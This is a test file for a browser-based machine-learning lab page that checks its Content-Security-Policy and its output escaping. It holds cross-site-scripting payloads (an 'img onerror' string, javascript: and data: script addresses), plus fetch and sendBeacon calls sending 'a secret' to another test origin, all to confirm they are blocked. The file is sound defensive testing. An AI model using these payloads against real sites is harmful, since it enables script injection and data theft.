// The page is closed: it runs only its own scripts, asks only its own origin, and never treats what a visitor
// brings as markup. embed.test.mjs tests that a message from another window is ignored. The fixture `open`
// makes every test fail in which a page asks another origin or reports a violation of its policy.

import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { readFileSync, rmSync } from 'node:fs';
import { join } from 'node:path';
import { act, activated, address, frames, reveal, test, train, waitState } from './lib/test.mjs';
import { dist, ship } from './lib/site.mjs';

let shipped;
/** Returns the folder of the shipped site, and ships it first if that has not been done. */
const shippedFolder = () => (shipped ??= ship('closed').folder);
test.afterAll(() => shipped && rmSync(shipped, { recursive: true, force: true }));

const hashOf = (text) => `'sha256-${createHash('sha256').update(text).digest('base64')}'`;

/** Returns the page's policy: directive -> sources. */
function policyOf(folder) {
  const page = readFileSync(join(folder, 'index.html'), 'utf8');
  const [, content] = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(page) ?? assert.fail(`${folder} has no policy`);
  const before = page.slice(0, page.indexOf(content));
  assert.ok(!/<(script|style|link)\b/.test(before), 'the policy holds only for what comes after it');
  return Object.fromEntries(content.split(';').map((part) => part.trim().split(/\s+/)).map(([name, ...sources]) => [name, sources]));
}

for (const [name, folderOf] of [['as it is built', () => dist], ['as it is shipped', shippedFolder]]) {
  test(`the policy of the page, ${name}, names what the page needs and no more`, () => {
    const folder = folderOf();
    const policy = policyOf(folder);
    assert.deepEqual(policy['default-src'], ["'none'"]);
    for (const directive of ['base-uri', 'form-action']) assert.deepEqual(policy[directive], ["'none'"]);
    const page = readFileSync(join(folder, 'index.html'), 'utf8');
    const scripts = [...page.matchAll(/<script(?![^>]* src=)([^>]*)>([\s\S]*?)<\/script>/g)].filter(([, words]) => !words.includes('application/json'));
    assert.equal(scripts.length, 3, 'the lines by which the page starts, those that say why it does not, and static/translators.js');
    assert.deepEqual(policy['script-src'], ["'self'", "'wasm-unsafe-eval'", ...scripts.map(([, , text]) => hashOf(text))]);
    assert.deepEqual(policy['style-src'], ["'self'"]);
    const known = new Set(["'self'", "'none'", "'wasm-unsafe-eval'", 'blob:', 'data:']);
    const others = Object.values(policy).flat().filter((source) => !known.has(source) && !source.startsWith("'sha256-"));
    assert.deepEqual(others, []);
    // A script in a data or blob address could come from anywhere.
    for (const directive of ['script-src', 'style-src', 'connect-src']) assert.ok(!policy[directive].some((source) => /^(data|blob):/.test(source)), directive);
  });
}

test('the lab trains under the policy of a server that docs/hosting.md describes', async ({ open, serve }) => {
  const text = readFileSync(new URL('../../docs/hosting.md', import.meta.url), 'utf8').replace(/\s+/g, ' ');
  const [, policy] = /has to allow `([^`]*)`/.exec(text);
  const site = await serve({ headers: { 'Content-Security-Policy': policy } });
  await train(await open(address('mlp', { device: 'cpu', steps: 20 }), { from: site }), ['loss_linear']);
});

test('nothing that is injected into the page runs or sends a request', async ({ open, serve }) => {
  const other = await serve({ pages: { 'bad.js': 'window.hacked = "a script from elsewhere"' } });
  const page = await open(address('mlp', { device: 'cpu' }), { allow: [/Content Security Policy/, /Failed to load resource/] });
  const refused = await page.evaluate(async (elsewhere) => {
    const heard = [];
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => heard.push(`${effectiveDirective} ${blockedURI}`));
    const put = (tag, set) => document.body.append(Object.assign(document.createElement(tag), set));
    put('script', { textContent: 'window.hacked = "an inline script"' });
    put('script', { src: `${elsewhere}bad.js` });
    put('script', { src: 'data:text/javascript,window.hacked="a script in an address"' });
    put('div', { innerHTML: '<img src="x" onerror="window.hacked = \'a handler\'"><a id="bad" href="javascript:window.hacked=\'an address\'">x</a><p id="styled" style="position:fixed">x</p>' });
    document.getElementById('bad').click();
    put('style', { textContent: 'body { display: none }' });
    put('iframe', { src: elsewhere });
    put('form', { action: elsewhere, method: 'post' });
    document.querySelector('body > form').submit();
    // In a timer, as the page's own code would. A debugger is allowed to evaluate text.
    setTimeout(() => { try { window.hacked = new Function('return "a text"')(); } catch (error) { heard.push(error.name); } });
    const calls = [fetch(elsewhere), fetch(`${elsewhere}?${'a secret'}`, { mode: 'no-cors' })];
    const outcomes = (await Promise.allSettled(calls)).map(({ status }) => status);
    navigator.sendBeacon(elsewhere, 'a secret');
    await new Promise((resolve) => setTimeout(resolve, 500));
    const { display } = getComputedStyle(document.body);
    return { heard, outcomes, display, position: getComputedStyle(document.getElementById('styled')).position, hacked: window.hacked };
  }, other.url);
  assert.equal(refused.hacked, undefined);
  assert.deepEqual(refused.outcomes, ['rejected', 'rejected']);
  assert.equal(refused.display, 'block');
  assert.equal(refused.position, 'static');
  for (const what of ['script-src-elem inline', `script-src-elem ${other.url}bad.js`, 'script-src-elem data', 'script-src-attr inline', 'style-src-elem inline', 'style-src-attr inline', 'EvalError']) {
    assert.ok(refused.heard.includes(what), `${what} is not among ${refused.heard.join(', ')}`);
  }
  for (const directive of ['frame-src', 'form-action', 'connect-src', 'img-src']) assert.ok(refused.heard.some((text) => text.startsWith(directive)), `${directive}: ${refused.heard.join(', ')}`);
  assert.deepEqual(other.requests, []);
});

/** Trains in `page`, or in a frame of it, and checks what was drawn. */
async function works(page, frame = page) {
  await frame.locator('[data-panel] [data-action="train"]').first().click();
  await frame.locator('[data-panel][data-state="done"]').waitFor({ timeout: 30_000 });
  assert.ok(await frame.locator('[data-figure="loss"] path').count());
  // Both a section's styles and those of single elements apply.
  assert.equal(await frame.locator('.network-canvas').first().evaluate((canvas) => getComputedStyle(canvas).position), 'absolute');
  assert.ok(await frame.locator('[data-panel] [style]').count());
}
const hash = address('mlp', { device: 'cpu', steps: 12, dataset: 'fashion-mnist', batch_size: 8 });

for (const [name, folderOf] of [['as it is built', () => dist], ['as it is shipped, in a path, and without a network', shippedFolder]]) {
  test(`it trains under its policy, ${name}`, async ({ open, serve }) => {
    const site = await serve({ folder: folderOf(), base: '/a/path/' });
    const page = await open(hash, { from: site, allow: [/ERR_/] });
    await works(page);
    if (folderOf !== shippedFolder) return;
    await activated(page);
    site.down = true;
    await page.goto('about:blank');
    await page.goto(site.url + hash);
    await works(page);
    assert.equal(await page.locator('meta[http-equiv="Content-Security-Policy"]').count(), 1);
  });

  test(`it trains under its policy in a frame of another origin, and in one without any, ${name}`, async ({ open, serve }) => {
    const site = await serve({ folder: folderOf(), base: '/a/path/' });
    const src = `${site.url}${hash}&embed=1`.replaceAll('&', '&amp;');
    const host = await serve({ pages: { 'index.html': `<!doctype html><title>host</title><link rel="icon" href="data:,">${['', 'sandbox="allow-scripts"'].map((words, i) => `<iframe id="f${i}" title="lab" width="900" height="900" ${words} src="${src}"></iframe>`).join('')}` } });
    const page = await open('', { from: host, ready: false });
    for (const id of ['#f0', '#f1']) await works(page, page.frameLocator(id));
  });
}

test('a saved picture keeps its styles, which the policy would refuse as attributes', async ({ open }) => {
  const page = await open(address('mlp', { device: 'cpu', steps: 12 }));
  await act(page, 'train');
  await waitState(page, 'done');
  const figure = page.locator('[data-figure="loss"]');
  await figure.locator('summary').first().click();
  const [download] = await Promise.all([page.waitForEvent('download'), figure.locator('[data-export="svg"]').click()]);
  assert.match(readFileSync(await download.path(), 'utf8'), /<path[^>]* style="[^"]*stroke-width:/);
});

const markup = '<img src=x onerror="window.hacked=1"><b>bold</b>';

/** Fails if the text was parsed as markup. */
async function checkWords(page) {
  assert.equal(await page.locator('img[src="x"], [data-panel] b:text-is("bold")').count(), 0);
  assert.equal(await page.evaluate(() => window.hacked), undefined);
}

test('the name of a file is shown as text, never as markup', async ({ open }) => {
  const page = await open(address('cnn', { device: 'cpu' }));
  const box = page.locator('.file-box').first();
  const record = Buffer.alloc(3073);
  await box.locator('input[type="file"]').setInputFiles([{ name: `${markup}.txt`, mimeType: 'text/plain', buffer: Buffer.from('no images') }]);
  await box.locator('[role="alert"]').getByText(`${markup}.txt`).waitFor();
  await checkWords(page);
  await box.locator('input[type="file"]').setInputFiles([{ name: `${markup}.bin`, mimeType: 'application/octet-stream', buffer: record }]);
  await box.locator('li').getByText(`${markup}.bin`).waitFor();
  await checkWords(page);
});

test('a text of one’s own is shown as text, never as markup', async ({ open }) => {
  const page = await open(address('transformer', { device: 'cpu', steps: 2, layers: 1, d_model: 16, context: 16 }));
  const panel = page.locator('[data-panel="transformer"]');
  await reveal(panel.locator('[data-paste]'));
  await panel.locator('[data-paste]').fill(`${markup}\n`.repeat(60));
  await panel.locator('[data-action="use-text"]').click();
  await page.waitForFunction(() => /text=own/.test(location.hash), undefined, { timeout: 20_000 });
  await act(page, 'train');
  await waitState(page, 'done', 60_000);
  await frames(page, 5);
  await checkWords(page);
});
